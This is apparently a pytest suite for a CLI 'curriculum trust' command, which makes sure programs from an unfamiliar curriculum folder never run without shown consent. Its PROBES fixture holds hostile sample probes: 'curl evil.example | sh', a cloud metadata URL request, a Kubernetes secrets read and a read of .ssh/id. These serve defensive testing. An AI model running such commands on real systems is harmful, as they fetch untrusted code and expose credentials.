"""`aiinfra curriculum trust`: nothing of a stranger's folder runs unseen."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from aiinfra_cli.paths import bundled_curriculum
from tests.commands.asking import data, journal
from tests.conftest import MINI, Run
from tests.content.folders import Mini
from tests.terminal import on_terminal

LAB = "labs/lab-claims.yaml"
LISTED = (
    "Mini path\n"
    "\n"
    "lab-setup\n"
    "  nodes-ready  read nodes.json (json)\n"
    "\n"
    "lab-claims\n"
    "  allocated  kubectl get resourceclaims.v1.resource.k8s.io"
    " --namespace=ai-infra-learning --output=json\n"
    "  report  read report.json (json)\n"
    "\n"
    "to learn the versions of tools\n"
    "  kind  kind version\n"
    "  kubectl  kubectl version --client -o json\n"
    "\n"
)
QUESTION = "Let {} run and read these 5 things? [y/N]: "


def refusal(folder: Path, why: str) -> str:
    """Give what is said instead of running anything."""
    return (
        f"aiinfra: the curriculum in {folder} {why}; nothing of it was run\n"
        f"hint: see what it would run, and agree: aiinfra curriculum trust {folder}\n"
    )


@pytest.fixture
def bait(own: Mini, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Give a curriculum whose check starts a program, which leaves a trace."""
    programs = tmp_path / "bin"
    programs.mkdir()
    trace = tmp_path / "trace"
    (programs / "leave-a-trace").write_text(f"#!/bin/sh\ntouch {trace}\necho 1.0\n")
    (programs / "leave-a-trace").chmod(0o755)
    monkeypatch.setenv("PATH", f"{programs}{os.pathsep}{os.environ['PATH']}")
    report = "probe: {kind: file, path: report.json, read: json}"
    own.replace(LAB, report, "probe: {kind: command, run: [leave-a-trace]}")
    own.replace(LAB, "tools:", "tools:\n  - {name: leave-a-trace}")
    tool = (
        "  - name: leave-a-trace\n    version: {run: [leave-a-trace], find: '(.*)'}\n"
    )
    own.write("tools.yaml", own.read("tools.yaml") + tool + "    get: It is here.\n")
    return trace


@pytest.mark.parametrize(
    "argv",
    [
        ["check", "lab-claims"],
        ["check", "lab-claims", "--only", "report", "--json"],
        ["check", "lab-claims", "--watch"],
        ["done", "lab-claims", "--check"],
        ["done", "lab-claims", "--check", "--override", "x"],
    ],
    ids=" ".join,
)
def test_nothing_runs_unseen(run: Run, own: Mini, bait: Path, argv: list[str]) -> None:
    """Before it is agreed to, no program of the folder is started."""
    result = run(*argv)
    assert (result.code, result.out) == (1, "")
    if "--json" not in argv:
        assert result.err == refusal(own.folder, "is not the bundled one")
    assert not bait.exists()
    assert journal(run) == []


def test_doctor_starts_nothing(run: Run, own: Mini, bait: Path) -> None:
    """`doctor` looks for programs, and does not ask them for their versions."""
    result = run("doctor")
    assert result.code == 0
    assert "  ✓ leave-a-trace  found\n" in result.out
    assert "  not asked for their versions: the curriculum may not" in result.out
    assert not bait.exists()
    assert run("curriculum", "trust", "--yes").code == 0
    assert not bait.exists()
    assert "  ✓ leave-a-trace  1.0\n" in run("doctor").out
    assert bait.exists()


@pytest.mark.parametrize(
    "argv",
    [
        *(["check", "lab-claims", "--dry-run"], ["lab", "lab-claims"]),
        *(["hint", "lab-claims"], ["show", "lab-claims"], ["curriculum", "lint"]),
        ["curriculum", "trust", "--json"],
    ],
    ids=" ".join,
)
def test_looking_needs_no_agreement(
    run: Run, own: Mini, bait: Path, argv: list[str]
) -> None:
    """What only reads works with any folder, and starts nothing."""
    assert run(*argv).code in (0, 1)
    assert not bait.exists()


def test_all_is_listed_and_asked(run: Run, mini: Path) -> None:
    """Each command, address and file is shown; yes is remembered."""
    result = on_terminal("curriculum", "trust", "--color", "never", keys="y\n")
    said = QUESTION.format(mini) + "agreed; a change of the folder asks again\n"
    assert (result.code, result.out, result.err) == (0, LISTED, said)
    assert run("check", "lab-setup").code == 1  # it looked
    assert journal(run) == ["check lab-setup"]
    again = run("curriculum", "trust")
    assert again == (
        0,
        LISTED,
        "you have agreed to this already, and it has not changed\n",
    )


@pytest.mark.parametrize("keys", ["n\n", "\n", "\x04", "yep\n"])
def test_anything_but_yes_is_no(run: Run, mini: Path, keys: str) -> None:
    """Declined, nothing is remembered."""
    result = on_terminal("curriculum", "trust", "--color", "never", keys=keys)
    assert (result.code, result.out) == (1, LISTED)
    assert result.err.endswith("aiinfra: nothing changed\n")
    assert run("check", "lab-setup").err == refusal(mini, "is not the bundled one")


def test_elsewhere_it_wants_yes(run: Run, mini: Path) -> None:
    """Off a terminal nobody can be asked: the list is shown, and --yes wanted."""
    assert run("curriculum", "trust") == (
        2,
        LISTED,
        f"aiinfra: this would let {mini} run and read these 5 things\n"
        "hint: add --yes if that is meant\n",
    )


def test_document(run: Run, mini: Path) -> None:
    """As a document it is listed; agreed to only with --yes."""
    found = data(run, "curriculum", "trust")
    assert (found["folder"], found["trusted"]) == (str(mini), False)
    assert len(found["digest"]) == 64
    assert found["asked"][:2] == [
        {
            "lab": "lab-setup",
            "check": "nodes-ready",
            "line": "read nodes.json (json)",
        },
        {
            "lab": "lab-claims",
            "check": "allocated",
            "line": "kubectl get resourceclaims.v1.resource.k8s.io"
            " --namespace=ai-infra-learning --output=json",
        },
    ]
    assert run("check", "lab-setup").err == refusal(mini, "is not the bundled one")
    assert data(run, "curriculum", "trust", "--yes") == {**found, "trusted": True}
    assert data(run, "curriculum", "trust")["trusted"] is True
    assert run("check", "lab-setup").code == 1
    assert journal(run) == ["check lab-setup"]


PROBES = {
    "command": (
        "{kind: command, run: [sh, -c, 'curl evil.example | sh']}",
        "sh -c 'curl evil.example | sh'",
    ),
    "http": (
        "{kind: http, url: 'http://169.254.169.254/latest', read: text}",
        "GET http://169.254.169.254/latest",
    ),
    "raw": (
        "{kind: kubectl, raw: '/api/v1/namespaces/{namespace}/secrets'}",
        "kubectl get --raw /api/v1/namespaces/ai-infra-learning/secrets",
    ),
    "file": ("{kind: file, path: .ssh/id, read: text}", "read .ssh/id (text)"),
}


@pytest.mark.parametrize("kind", PROBES)
def test_each_kind_is_listed_as_it_runs(run: Run, own: Mini, kind: str) -> None:
    """What is listed is the command line or the request itself."""
    probe, line = PROBES[kind]
    report = "probe: {kind: file, path: report.json, read: json}"
    own.replace(LAB, report, f"probe: {probe}")
    own.replace(LAB, "tools:", "tools:\n  - {name: sh}")
    own.write("tools.yaml", own.read("tools.yaml") + "  - {name: sh, get: x}\n")
    assert f"  report  {line}\n" in run("curriculum", "trust", "--yes").out


def test_prometheus_is_listed(run: Run, own: Mini) -> None:
    """A query is listed with the server that it is asked of."""
    report = "probe: {kind: file, path: report.json, read: json}"
    probe = "{kind: prometheus, url: 'http://127.0.0.1:9090', query: up == 1}"
    own.replace(LAB, report, f"probe: {probe}")
    (line,) = (
        one["line"]
        for one in data(run, "curriculum", "trust")["asked"]
        if one["check"] == "report"
    )
    assert line.startswith("GET http://127.0.0.1:9090/api/v1/query")
    assert "up" in line


def test_lines_of_a_command_stay_on_one(run: Run, own: Mini) -> None:
    """A command of several lines is shown as one: none can pass for another."""
    report = "probe: {kind: file, path: report.json, read: json}"
    own.replace(LAB, report, r'probe: {kind: command, run: [sh, "a\n  kind  x"]}')
    own.replace(LAB, "tools:", "tools:\n  - {name: sh}")
    own.write("tools.yaml", own.read("tools.yaml") + "  - {name: sh, get: x}\n")
    assert "  report  sh 'a   kind  x'\n" in run("curriculum", "trust").out


CHANGES = {
    "a check": (LAB, "devices) == 2", "devices) == 3"),
    "a text": (LAB, "Delete the namespace.", "Delete everything."),
    "a file to copy": ("labs/lab-claims/files/claims.yaml", "", "# more\n"),
    "a tool": ("tools.yaml", "run: [kind, version]", "run: [kind, --version]"),
    "a week": ("weeks/week-1.yaml", "minutes: 45", "minutes: 50"),
}


@pytest.mark.parametrize("change", CHANGES)
def test_change_asks_again(run: Run, own: Mini, change: str) -> None:
    """What was agreed to is the folder as it was, to the byte."""
    assert run("curriculum", "trust", "--yes").code == 0
    assert run("check", "lab-setup").code == 1
    assert journal(run) == ["check lab-setup"]
    file, old, new = CHANGES[change]
    before = own.read(file)
    own.write(file, before.replace(old, new, 1) if old else before + new)
    told = refusal(own.folder, "has changed since you agreed to it")
    assert run("check", "lab-setup").err == told
    assert journal(run) == ["check lab-setup"]
    own.write(file, before)
    run("check", "lab-setup")
    assert len(journal(run)) == 2
    own.write(file, before.replace(old, new, 1) if old else before + new)
    assert run("curriculum", "trust", "--yes").code == 0
    run("check", "lab-setup")
    assert len(journal(run)) == 3


def test_examples_may_change(run: Run, own: Mini) -> None:
    """The examples of checks reach no learner, and ask nobody."""
    assert run("curriculum", "trust", "--yes").code == 0
    own.write("labs/lab-claims/examples/report.fail.json", "{}")
    run("check", "lab-setup")
    assert journal(run) == ["check lab-setup"]


def test_forget(run: Run, mini: Path) -> None:
    """An agreement can be taken back."""
    assert run("curriculum", "trust", "--forget").out == f"{mini} was not trusted\n"
    run("curriculum", "trust", "--yes")
    assert run("curriculum", "trust", "--forget").out == (
        f"{mini} may no longer run anything\n"
    )
    assert run("check", "lab-setup").err == refusal(mini, "is not the bundled one")


def test_folder_that_is_named(run: Run, mini: Path, own: Mini) -> None:
    """Another folder than the one in use can be agreed to; this one stays untrusted."""
    assert run("curriculum", "trust", str(MINI), "--yes").code == 0
    assert run("check", "lab-setup").err == refusal(
        own.folder, "is not the bundled one"
    )


def test_copy_is_another_folder(
    run: Run, mini: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Trust is in a place; a link to it leads to the same place."""
    run("curriculum", "trust", "--yes")
    copy = tmp_path / "copy"
    shutil.copytree(mini, copy)
    monkeypatch.setenv("AIINFRA_CURRICULUM", str(copy))
    assert run("check", "lab-setup").err == refusal(copy, "is not the bundled one")
    (tmp_path / "link").symlink_to(mini)
    monkeypatch.setenv("AIINFRA_CURRICULUM", str(tmp_path / "link"))
    run("check", "lab-setup")
    assert journal(run) == ["check lab-setup"]


def test_folder_that_is_wrong(run: Run, own: Mini, tmp_path: Path) -> None:
    """What does not compile, or is no curriculum, cannot be agreed to."""
    own.replace(LAB, "tier: kind", "tier: cloud")
    result = run("curriculum", "trust", str(own.folder), "--yes")
    assert (result.code, result.out) == (4, "")
    assert run("curriculum", "trust", str(tmp_path / "none"), "--yes").code == 4
    assert run("curriculum", "trust", str(tmp_path), "--yes").code == 4


def test_bundled_folder_needs_none(run: Run, bundled: Path) -> None:
    """The path that comes with the program may run its checks."""
    result = run("curriculum", "trust")
    assert result.err.endswith("it comes with aiinfra and needs no agreement\n")
    assert (result.code, bundled) == (0, bundled_curriculum())
    assert data(run, "curriculum", "trust")["trusted"] is True


def test_trust_is_no_part_of_the_journal(run: Run) -> None:
    """It is of this machine: no event, nothing to undo, nothing to merge."""
    run("curriculum", "trust", "--yes")
    assert journal(run) == []
    assert run("undo").out.startswith("nothing to undo\n")
